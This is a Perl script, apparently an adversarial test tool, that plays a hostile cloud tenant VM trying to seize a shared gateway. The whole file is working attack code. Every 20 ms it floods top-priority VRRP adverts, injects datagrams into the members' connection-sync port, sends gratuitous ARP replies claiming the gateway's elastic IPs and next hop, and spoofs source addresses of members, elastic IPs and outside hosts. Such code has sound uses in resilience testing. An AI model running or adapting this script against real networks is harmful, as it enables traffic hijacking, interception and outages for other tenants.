#!/usr/bin/perl
# hostile-vm.pl - a tenant's machine that wants to be the gateway. Until it is ended it sends, every 20 ms:
#   - VRRP adverts of the highest priority to the gateway, as from next door, also with a member's source
#   - datagrams to where members tell each other of connections
#   - answers to ARP questions that nobody asked: the gateway's elastic IPs and next hop are here
#   - datagrams with sources that are not its own: an elastic IP, a host of the internet, a member
#
#   hostile-vm.pl GATEWAY OWN_ADDRESS OWN_MAC INDEX MEMBER ELASTIC_IP OUTSIDE
use strict;
use warnings;
use Socket qw(:DEFAULT);

my ($gateway, $own, $mac, $index, $member, $elastic_ip, $outside) = @ARGV;
my $every_s = 0.02;
my ($vrrp, $udp, $sync_port, $ip_hdrincl) = (112, 17, 3780, 3);
socket(my $raw, PF_INET, SOCK_RAW, 255) or die "raw socket: $!\n";
setsockopt($raw, 0, $ip_hdrincl, 1) or die "IP_HDRINCL: $!\n";
socket(my $frames, 17, SOCK_RAW, 0) or die "packet socket: $!\n";
my $hardware = pack('H12', $mac =~ tr/://dr);

# The kernel fills in length, identification and checksum.
sub packet {
  my ($source, $protocol, $payload) = @_;
  my $header = pack('CCnnnCCna4a4', 0x45, 0xc0, 0, 0, 0, 255, $protocol, 0, inet_aton($source), inet_aton($gateway));
  send($raw, $header . $payload, 0, pack_sockaddr_in(0, inet_aton($gateway))) or die "send: $!\n";
}

sub claim {
  my ($address) = @_;
  my $arp = pack('nnCCn', 1, 0x0800, 6, 4, 2) . $hardware . inet_aton($address) . ("\xff" x 6) . inet_aton($address);
  my $frame = ("\xff" x 6) . $hardware . pack('n', 0x0806) . $arp;
  send($frames, $frame, 0, pack('SnlSCCa8', 17, 0x0806, $index, 1, 0, 6, "\xff" x 6)) or die "claim: $!\n";
}

my @numbers = 1 .. 255;
while (1) {
  for my $id (@numbers[rand @numbers], 49) {
    packet($_, $vrrp, pack('CCCCnna4', 0x31, $id, 255, 1, 1, 0, inet_aton($own))) for $own, $member;
  }
  packet($_, $udp, pack('nnnn', 40000, $sync_port, 16, 0) . 'hostile!') for $own, $member, $elastic_ip, $outside;
  claim($_) for $elastic_ip, $outside, '100.64.0.1';
  select(undef, undef, undef, $every_s);
}
